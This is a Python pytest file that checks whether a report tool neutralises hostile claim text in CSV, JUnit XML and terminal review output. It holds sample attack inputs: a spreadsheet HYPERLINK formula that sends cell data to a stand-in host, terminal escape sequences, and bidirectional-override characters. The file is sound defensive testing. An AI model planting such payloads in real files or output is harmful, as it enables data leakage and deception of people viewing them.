"""#12 C: hostile text in claims cannot run in a spreadsheet, break JUnit XML or a terminal."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import junitparser
import pytest
from halgate.models.review import Override
from halgate.reports.csv_report import csv_report
from halgate.reports.junit import junit_xml
from halgate.reports.review_text import override_line, review_lines, signoff_lines
from halgate.review import review_run

from ..conftest import build_report

HOSTILE = "\x1b[2J\x1b]0;owned\x07\x00bad\x0b\x0c\x1f\ud800\udfff \u202eevil\x9b31m end"


def hostile_report(text: str = HOSTILE):
    report = build_report()
    analyses = []
    for a in report.analyses:
        claims = [c.model_copy(update={"text": text, "rationale": text}) for c in a.claims]
        analyses.append(a.model_copy(update={"claims": claims}))
    return report.model_copy(update={"analyses": analyses})


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(lead):
    payload = f'{lead}HYPERLINK("http://x/?"&A1,"click")'
    text = csv_report(hostile_report(payload))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and all(r["text"] == "'" + payload for r in rows)
    assert all(r["rationale"] == "'" + payload for r in rows)
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_junit_with_xml_illegal_characters_still_parses(tmp_path):
    text = junit_xml(hostile_report())
    ET.fromstring(text.encode("utf-8"))  # must parse as XML
    path = tmp_path / "junit.xml"
    path.write_text(text, encoding="utf-8")
    xml = junitparser.JUnitXml.fromfile(str(path))
    names = [case.name for suite in xml for case in suite]
    assert any("bad" in n and "evil" in n for n in names)
    assert not any(ch in text for ch in "\x00\x0b\x0c\x1b\x1f\ud800\udfff")


def test_review_text_strips_terminal_control_sequences():
    report = hostile_report()
    run = review_run(report.run_id, report, [])
    o = Override(
        id=1,
        run_id=report.run_id,
        claim_id="q1/candidate/0",
        comment=HOSTILE,
        reviewer="eve\x1b[31m",
        created_at="t",
    )
    for text in (review_lines(run.queue.items), override_line(o)):
        assert "bad" in text and "end" in text
        for bad in ("\x1b", "\x07", "\x00", "\x9b", "\u202e", "\x0b", "\ud800"):
            assert bad not in text
    assert "\x1b" not in signoff_lines([])
